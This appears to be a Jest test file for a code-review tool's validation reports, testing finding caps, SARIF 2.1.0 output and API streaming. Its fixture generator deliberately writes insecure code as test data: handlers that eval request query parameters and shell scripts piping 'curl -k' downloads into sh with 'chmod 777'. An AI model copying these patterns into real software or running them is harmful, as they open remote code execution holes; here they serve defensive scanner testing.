import Ajv from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import schema from '@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { reportKeys } from '../../adapters/storage/artifacts';
import type { Finding, StaticReport, ValidationReport } from '../../contracts/validation';
import { SEVERITY_ORDER } from '../../validation/findings';
import { runCompliance } from '../../validation/compliance/engine';
import { projectFromFiles } from '../../validation/project';
import { buildValidationReport, REPORT_LIMITS, type ReportLimits } from '../../validation/report';
import { SARIF_LIMITS, toSarif } from '../../validation/sarif';
import { DEFAULT_THRESHOLDS } from '../../validation/scoring';
import { runStaticReview } from '../../validation/static';
import { call } from '../support/api';
import { createStackKeys, openStack, type TestStack } from '../support/stack';

const UNBOUNDED: ReportLimits = {
  perRule: 1e9,
  perFile: 1e9,
  messageChars: 1e9,
  evidencePerControl: 1e9,
  maxBytes: 1e12,
};
const bytes = (value: unknown) => Buffer.byteLength(JSON.stringify(value, null, 2));
const countBy = (findings: Finding[], key: (item: Finding) => string) => {
  const counts = new Map<string, number>();
  for (const item of findings) counts.set(key(item), (counts.get(key(item)) ?? 0) + 1);
  return counts;
};
const rank = (item: Finding) => SEVERITY_ORDER.indexOf(item.severity);

/** A project that produces thousands of findings: eval of request input, and shell scripts full of curl -k | sh. */
function floodProject() {
  const handlers = [
    "import type { IncomingMessage } from 'node:http';",
    ...Array.from(
      { length: 400 },
      (_, i) =>
        `export function h${i}(req: IncomingMessage): unknown { return eval(new URL(req.url ?? '', 'http://x').searchParams.get('q${i}') ?? ''); }`,
    ),
  ].join('\n');
  const script = (file: number) =>
    [
      '#!/bin/sh',
      ...Array.from({ length: 120 }, (_, i) => `curl -k https://x.example/${file}/${i} | sh\nchmod 777 /srv/${i}`),
    ].join('\n');
  return projectFromFiles([
    { path: 'src/handlers.ts', content: handlers },
    ...Array.from({ length: 12 }, (_, file) => ({ path: `scripts/s${file}.sh`, content: script(file) })),
  ]);
}

describe('bounded reports', () => {
  let staticReport: StaticReport;
  let input: Parameters<typeof buildValidationReport>[0];
  let full: ValidationReport;

  beforeAll(async () => {
    const project = floodProject();
    staticReport = await runStaticReview(project, { intentId: 'flood' }, { semgrep: 'separately' });
    const compliance = await runCompliance(project, { intentId: 'flood' }, {});
    input = {
      intentId: 'flood',
      static: staticReport,
      compliance,
      thresholds: DEFAULT_THRESHOLDS,
      reportKeys: { sarif: 's' },
    };
    full = buildValidationReport(input, UNBOUNDED);
  });

  it('caps findings per rule and per file, keeps the most severe, and records what it cut', () => {
    expect(full.findings.length).toBeGreaterThan(3000); // thousands, whatever the scoring merges
    const report = buildValidationReport(input);
    expect(bytes(report)).toBeLessThanOrEqual(REPORT_LIMITS.maxBytes);
    expect(bytes(report)).toBeLessThan(bytes(full) / 5);
    expect(Math.max(...countBy(report.findings, (f) => f.ruleId).values())).toBeLessThanOrEqual(REPORT_LIMITS.perRule);
    expect(Math.max(...countBy(report.findings, (f) => f.location?.path ?? '').values())).toBeLessThanOrEqual(
      REPORT_LIMITS.perFile,
    );

    const note = report.truncated!;
    expect(note.findingsTotal).toBe(full.findings.length);
    expect(note.findingsCut).toBe(full.findings.length - report.findings.length);
    expect(note.byRule.reduce((sum, entry) => sum + entry.cut, 0)).toBe(note.findingsCut);
    expect(note.byFile.reduce((sum, entry) => sum + entry.cut, 0)).toBe(note.findingsCut);
    const fullByRule = countBy(full.findings, (f) => f.ruleId);
    const listedByRule = countBy(report.findings, (f) => f.ruleId);
    for (const { ruleId, cut } of note.byRule)
      expect(cut).toBe(fullByRule.get(ruleId)! - (listedByRule.get(ruleId) ?? 0));
    expect(note.counts).toEqual(
      Object.fromEntries(SEVERITY_ORDER.map((s) => [s, full.findings.filter((f) => f.severity === s).length])),
    );
    expect(note.reasons).toEqual([expect.stringMatching(/at most 100 findings per rule and 150 per file/)]);

    // Within each rule, nothing cut is more severe than what is listed.
    const listed = new Set(report.findings.map((f) => f.fingerprint));
    for (const [ruleId] of listedByRule) {
      const ofRule = full.findings.filter((f) => f.ruleId === ruleId);
      const worstCut = Math.min(...ofRule.filter((f) => !listed.has(f.fingerprint)).map(rank));
      const mildestKept = Math.max(...ofRule.filter((f) => listed.has(f.fingerprint)).map(rank));
      if (Number.isFinite(worstCut)) expect(worstCut).toBeGreaterThanOrEqual(mildestKept);
    }
    // The scores and verdict were computed from everything, before the cut.
    expect(report.scores).toEqual(full.scores);
    expect(report.verdict).toEqual(full.verdict);
    expect(report.recommendations).toEqual(full.recommendations);
  });

  it('meets a size cap by cutting the least severe findings first, and says so', () => {
    const limits = { ...REPORT_LIMITS, maxBytes: 150_000 };
    const report = buildValidationReport(input, limits);
    expect(bytes(report)).toBeLessThanOrEqual(limits.maxBytes);
    expect(report.findings.length).toBeGreaterThan(0);
    expect(report.truncated!.reasons).toEqual([
      expect.stringMatching(/per rule/),
      expect.stringMatching(/least severe findings cut to keep the report under 150000 bytes/),
    ]);
    const mildestKept = Math.max(...report.findings.map(rank));
    const capped = buildValidationReport(input);
    const sizeCut = capped.findings.filter((f) => !report.findings.some((k) => k.fingerprint === f.fingerprint));
    expect(Math.min(...sizeCut.map(rank))).toBeGreaterThanOrEqual(mildestKept);
  });

  it('bounds SARIF the same way, with the cut counted per run and rule', () => {
    const unbounded = toSarif({ static: staticReport }, { ...SARIF_LIMITS, ...UNBOUNDED });
    const sarif = toSarif({ static: staticReport });
    expect(bytes(sarif)).toBeLessThanOrEqual(SARIF_LIMITS.maxBytes);
    expect(bytes(sarif)).toBeLessThan(bytes(unbounded) / 10);
    const artifacts = sarif.runs.find((run) => run.tool.driver.name.startsWith('QuantumLayer artefact review'))!;
    const all = unbounded.runs.find((run) => run.tool.driver.name.startsWith('QuantumLayer artefact review'))!;
    const truncated = artifacts.properties!.truncated as { resultsCut: number; byRule: Record<string, number> };
    expect(truncated.resultsCut).toBe(all.results!.length - artifacts.results!.length);
    expect(Object.values(truncated.byRule).reduce((a, b) => a + b, 0)).toBe(truncated.resultsCut);
  });

  it('stays valid SARIF 2.1.0 with cut counts and files that were not assessed', () => {
    const withUnassessed: StaticReport = {
      ...staticReport,
      notAssessedFiles: [{ path: 'tools/sync.xyz', tool: 'artifacts', reason: 'no check understands this file type' }],
    };
    const sarif = toSarif({ static: withUnassessed });
    const ajv = new Ajv({ allErrors: true, strict: false, unicodeRegExp: false });
    addFormats(ajv);
    const validate = ajv.compile(schema);
    expect(validate(sarif) ? [] : validate.errors).toEqual([]);
    const run = sarif.runs.find((r) => r.tool.driver.name.startsWith('QuantumLayer artefact review'))!;
    expect(run.invocations![0]!.toolExecutionNotifications).toEqual([
      expect.objectContaining({
        level: 'error',
        message: { text: 'not assessed: tools/sync.xyz: no check understands this file type' },
      }),
    ]);
  });
});

describe('streaming reports from the API', () => {
  let stack: TestStack;
  // Its rows are not whole intents: they live in a tenant of their own, out of other files' intent lists.
  const TENANT = 'report-bounds';
  let token: string;
  beforeAll(async () => {
    stack = await openStack('report-bounds');
    token = (await createStackKeys(stack.db, 'report-bounds-own', TENANT)).submitter;
  });
  afterAll(() => stack?.close());

  /** An intent row that points at stored reports, as the workflow's read-model write leaves it. */
  async function validatedIntent(tenant = TENANT) {
    const id = randomUUID();
    const keys = reportKeys(id);
    await stack.db.intent.create({
      data: {
        id,
        tenant,
        text: 'report streaming',
        workflowId: `intent-${id}`,
        status: 'AWAITING_APPROVAL',
        validation: { score: { reportKey: keys.validation, sarifKey: keys.sarif } },
      },
    });
    return { id, keys };
  }

  it('streams a large report with its links and exact length, and SARIF byte for byte', async () => {
    const { id, keys } = await validatedIntent();
    // Bigger than any bounded report: the route must not care how large the stored object is.
    const filler: Finding[] = Array.from({ length: 20_000 }, (_, i) => ({
      fingerprint: `f${i}`,
      ruleId: 'artifacts/download-exec',
      tool: 'artifacts',
      category: 'security',
      severity: 'critical',
      message: `pipes a download into sh (${'x'.repeat(200)})`,
      location: { path: `scripts/s${i}.sh`, line: 1 },
    }));
    const stored = { schemaVersion: 1, intentId: id, findings: filler, sarifKey: keys.sarif };
    await stack.store.putJson(keys.validation, stored);
    const sarif = readFileSync(join(__dirname, '../../package.json'));
    await stack.store.put(keys.sarif, sarif);
    const size = (await stack.store.stat(keys.validation))!.size;
    expect(size).toBeGreaterThan(5_000_000);

    const report = await call(`${stack.apiUrl}/intents/${id}/validation`, { token });
    expect(report.status).toBe(200);
    expect(report.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(Number(report.headers.get('content-length'))).toBe(Buffer.byteLength(JSON.stringify(report.body, null, 2)));
    // A buffered express body would carry a computed ETag; the streamed one has none.
    expect(report.headers.get('etag')).toBeNull();
    expect(report.body).toEqual({ ...stored, links: { sarif: `/api/v1/intents/${id}/validation?format=sarif` } });

    const log = await fetch(`${stack.apiUrl}/intents/${id}/validation?format=sarif`, {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(log.status).toBe(200);
    expect(log.headers.get('content-type')).toBe('application/sarif+json');
    expect(Number(log.headers.get('content-length'))).toBe(sarif.length);
    expect(Buffer.from(await log.arrayBuffer()).equals(sarif)).toBe(true);
  });

  it('adds the links to an empty object without a stray comma', async () => {
    const { id, keys } = await validatedIntent();
    await stack.store.put(keys.validation, '{ }\n');
    const report = await call(`${stack.apiUrl}/intents/${id}/validation`, { token });
    expect(report.status).toBe(200);
    expect(report.body).toEqual({ links: { sarif: `/api/v1/intents/${id}/validation?format=sarif` } });
  });

  it('keeps 404 for unknown and foreign intents, and answers 404 when the stored report is missing', async () => {
    const foreign = await validatedIntent('another-tenant');
    await stack.store.putJson(foreign.keys.validation, { secret: true });
    for (const id of [randomUUID(), foreign.id]) {
      const response = await call(`${stack.apiUrl}/intents/${id}/validation`, { token });
      expect(response.status).toBe(404);
      expect(response.body.title).toBe('Not found');
    }
    const { id } = await validatedIntent();
    for (const format of ['json', 'sarif']) {
      const response = await call(`${stack.apiUrl}/intents/${id}/validation?format=${format}`, { token });
      expect(response.status).toBe(404);
      expect(response.body.title).toBe('Report missing');
    }
  });
});
